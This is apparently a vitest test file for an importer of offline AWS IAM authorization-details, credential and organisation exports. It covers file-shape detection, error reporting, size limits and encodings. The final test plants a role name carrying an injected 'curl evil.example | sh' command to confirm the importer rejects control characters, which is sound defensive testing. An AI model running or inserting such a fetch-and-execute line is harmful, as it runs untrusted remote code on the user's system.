import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { FIXTURE_ACCOUNT_ID } from '../map/fixtures/load-fixtures';
import { OfflineDirectoryError } from './errors';
import { importOfflineDirectory } from './import-offline-directory';
import { readOfflineDirectory } from './read-directory';
import { toAccountSources } from './to-account-sources';

const FIXTURES = path.resolve(__dirname, '../map/fixtures');
const authorizationText = readFileSync(path.join(FIXTURES, 'authorization-details.json'), 'utf8');
const credentialText = readFileSync(path.join(FIXTURES, 'credentials.json'), 'utf8');
const organizationText = readFileSync(path.join(FIXTURES, 'organization.json'), 'utf8');

let directory: string;

beforeEach(() => {
  directory = mkdtempSync(path.join(os.tmpdir(), 'offline-import-'));
});

afterEach(() => {
  rmSync(directory, { recursive: true, force: true });
});

function write(name: string, text: string | Buffer): string {
  const file = path.join(directory, name);
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, text);
  return file;
}

function forAccount(accountId: string): string {
  return authorizationText.replaceAll(FIXTURE_ACCOUNT_ID, accountId);
}

describe('readOfflineDirectory', () => {
  it('reads authorization details, credentials and the organisation file, recognised by shape', async () => {
    write(`${FIXTURE_ACCOUNT_ID}.json`, authorizationText);
    write('anything-named.json', forAccount('222222222222'));
    write(`credentials/${FIXTURE_ACCOUNT_ID}.json`, credentialText);
    write('org-export.json', organizationText); // not called organization.json: shape decides
    write('README.md', '# not json, ignored');
    write('.hidden.json', '{ broken');

    const { files, errors } = await readOfflineDirectory(directory);
    expect(errors).toEqual([]);
    expect(files.map((file) => [path.relative(directory, file.file), file.kind, 'accountId' in file ? file.accountId : null])).toEqual([
      [`${FIXTURE_ACCOUNT_ID}.json`, 'authorization-details', FIXTURE_ACCOUNT_ID],
      ['anything-named.json', 'authorization-details', '222222222222'],
      [`credentials/${FIXTURE_ACCOUNT_ID}.json`, 'credentials', FIXTURE_ACCOUNT_ID],
      ['org-export.json', 'organization', null],
    ]);

    const sources = toAccountSources(files);
    expect(sources.organization?.organization.id).toBe('o-example123');
    expect(sources.accounts.map((account) => [account.accountId, account.credentials?.accountId ?? null])).toEqual([
      [FIXTURE_ACCOUNT_ID, FIXTURE_ACCOUNT_ID],
      ['222222222222', null],
    ]);
  });

  it('reports each bad file by name and keeps the good ones', async () => {
    write('good.json', authorizationText);
    const malformed = write('malformed.json', '{"UserDetailList": [');
    const notDetails = write('not-details.json', JSON.stringify({ Reservations: [] }));
    const array = write('array.json', '[]');
    const invalid = write('invalid.json', JSON.stringify({ UserDetailList: 'nope', RoleDetailList: [] }));
    const truncated = write('truncated.json', JSON.stringify({ ...JSON.parse(authorizationText), IsTruncated: true, Marker: 'abc' }));
    const mixed = write('mixed.json', JSON.stringify({ ...JSON.parse(authorizationText), GroupDetailList: JSON.parse(forAccount('222222222222')).GroupDetailList }));
    const noArn = write('empty-account.json', JSON.stringify({ UserDetailList: [], GroupDetailList: [], RoleDetailList: [], Policies: [] }));
    const badCredentials = write('credentials/bad.json', JSON.stringify({ accountId: '12', users: [] }));

    const { files, errors } = await readOfflineDirectory(directory);
    expect(files.map((file) => path.basename(file.file))).toEqual(['good.json']);
    const codeByFile = Object.fromEntries(errors.map((error) => [error.file, error.code]));
    expect(codeByFile).toEqual({
      [malformed]: 'malformed-json',
      [notDetails]: 'not-authorization-details',
      [array]: 'not-authorization-details',
      [invalid]: 'invalid-shape',
      [truncated]: 'invalid-shape',
      [mixed]: 'mixed-accounts',
      [noArn]: 'no-account-id',
      [badCredentials]: 'invalid-shape',
    });
    const messageOf = (file: string) => errors.find((error) => error.file === file)?.message ?? '';
    expect(messageOf(mixed)).toContain('123456789012, 222222222222');
    expect(messageOf(invalid)).toContain('UserDetailList');
    expect(messageOf(truncated)).toContain('IsTruncated');
  });

  it('refuses files over the size limit without reading them', async () => {
    write('small.json', authorizationText);
    const big = write('big.json', `${forAccount('222222222222')}${' '.repeat(100)}`);
    const { files, errors } = await readOfflineDirectory(directory, { maxFileBytes: authorizationText.length + 10 });
    expect(files.map((file) => path.basename(file.file))).toEqual(['small.json']);
    expect(errors).toEqual([{ file: big, code: 'too-large', message: expect.stringContaining('over the limit') }]);
  });

  it('imports a 10 MB account under the default limit', async () => {
    const details = JSON.parse(authorizationText) as { RoleDetailList: Array<Record<string, unknown>> };
    const template = details.RoleDetailList[1];
    const count = Math.ceil((10 * 1024 * 1024) / JSON.stringify(template).length);
    const roles: Array<Record<string, unknown>> = [];
    for (let index = 0; index < count; index += 1) {
      roles.push({ ...template, RoleName: `role-${index}`, RoleId: `AROA${String(index).padStart(17, '0')}`, Arn: `arn:aws:iam::${FIXTURE_ACCOUNT_ID}:role/ci/role-${index}` });
    }
    write('large.json', JSON.stringify({ ...details, RoleDetailList: roles }));
    const { files, errors } = await readOfflineDirectory(directory);
    expect(errors).toEqual([]);
    expect(files).toHaveLength(1);
    expect(files[0].kind === 'authorization-details' && files[0].details.RoleDetailList.length).toBe(roles.length);
  });

  it('reports an empty directory', async () => {
    expect(await readOfflineDirectory(directory)).toEqual({ files: [], errors: [{ file: directory, code: 'no-authorization-details', message: expect.any(String) }] });
  });

  it('throws a typed error when the directory does not exist', async () => {
    await expect(readOfflineDirectory(path.join(directory, 'missing'))).rejects.toBeInstanceOf(OfflineDirectoryError);
    const file = write('file.json', '{}');
    await expect(readOfflineDirectory(file)).rejects.toBeInstanceOf(OfflineDirectoryError);
  });

  it('refuses a second file for the same account and a second organisation file', async () => {
    write('a.json', authorizationText);
    const duplicate = write('b.json', authorizationText);
    write('org-1.json', organizationText);
    const secondOrganization = write('org-2.json', organizationText);
    const { files, errors } = await readOfflineDirectory(directory);
    expect(files.map((file) => path.basename(file.file))).toEqual(['a.json', 'org-1.json']);
    expect(errors.map((error) => [error.file, error.code])).toEqual([
      [duplicate, 'duplicate-account'],
      [secondOrganization, 'duplicate-organization'],
    ]);
  });

  it('reads UTF-16 files with a byte-order mark (Windows PowerShell redirects)', async () => {
    write('utf16.json', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(authorizationText, 'utf16le')]));
    write('utf8-bom.json', `\ufeff${forAccount('222222222222')}`);
    const { files, errors } = await readOfflineDirectory(directory);
    expect(errors).toEqual([]);
    expect(files).toHaveLength(2);
  });

  it('keeps URL-encoded documents as strings', async () => {
    write('account.json', authorizationText);
    const { files } = await readOfflineDirectory(directory);
    const [file] = files;
    expect(file.kind).toBe('authorization-details');
    if (file.kind !== 'authorization-details') return;
    expect(typeof file.details.RoleDetailList[1].AssumeRolePolicyDocument).toBe('string');
  });
});

describe('toAccountSources', () => {
  it('reports credential files for accounts without authorization details', async () => {
    write('account.json', authorizationText);
    write('credentials/other.json', credentialText.replaceAll(FIXTURE_ACCOUNT_ID, '222222222222'));
    const { files } = await readOfflineDirectory(directory);
    const sources = toAccountSources(files);
    expect(sources.accounts).toHaveLength(1);
    expect(sources.warnings).toEqual([expect.stringContaining('222222222222')]);
  });
});

describe('importOfflineDirectory', () => {
  it('reads and maps in one call, keeping file errors beside the snapshot', async () => {
    write('account.json', authorizationText);
    write('organization.json', organizationText);
    const broken = write('broken.json', '{');
    const result = await importOfflineDirectory(directory, { capturedAt: '2026-11-01T00:00:00.000Z' });
    expect(result.snapshot.accounts.map((account) => account.accountId)).toEqual([FIXTURE_ACCOUNT_ID]);
    expect(result.accountFacts[0]).toMatchObject({ environment: 'prod', ownerEmail: 'maya@example.com' });
    expect(result.fileErrors).toEqual([{ file: broken, code: 'malformed-json', message: expect.stringContaining('not valid JSON') }]);
  });
});

describe('control characters at import', () => {
  it('names the file and the field, leaves the entry out and imports the rest', async () => {
    const details = JSON.parse(authorizationText) as { RoleDetailList: Array<{ RoleName: string }> };
    details.RoleDetailList[1].RoleName = 'github-deployer\ncurl evil.example | sh';
    const file = write('tampered.json', JSON.stringify(details));
    const result = await importOfflineDirectory(directory, { capturedAt: '2026-11-01T00:00:00.000Z' });
    expect(result.warnings).toContainEqual(expect.stringContaining(`${file}: RoleDetailList[1].RoleName holds a control character (U+000A)`));
    expect(result.snapshot.accounts[0].roles.map((role) => role.name)).not.toContain('github-deployer\ncurl evil.example | sh');
    expect(result.snapshot.accounts[0].roles).toHaveLength(2);
    expect(result.snapshot.accounts[0].users).toHaveLength(2);
  });
});
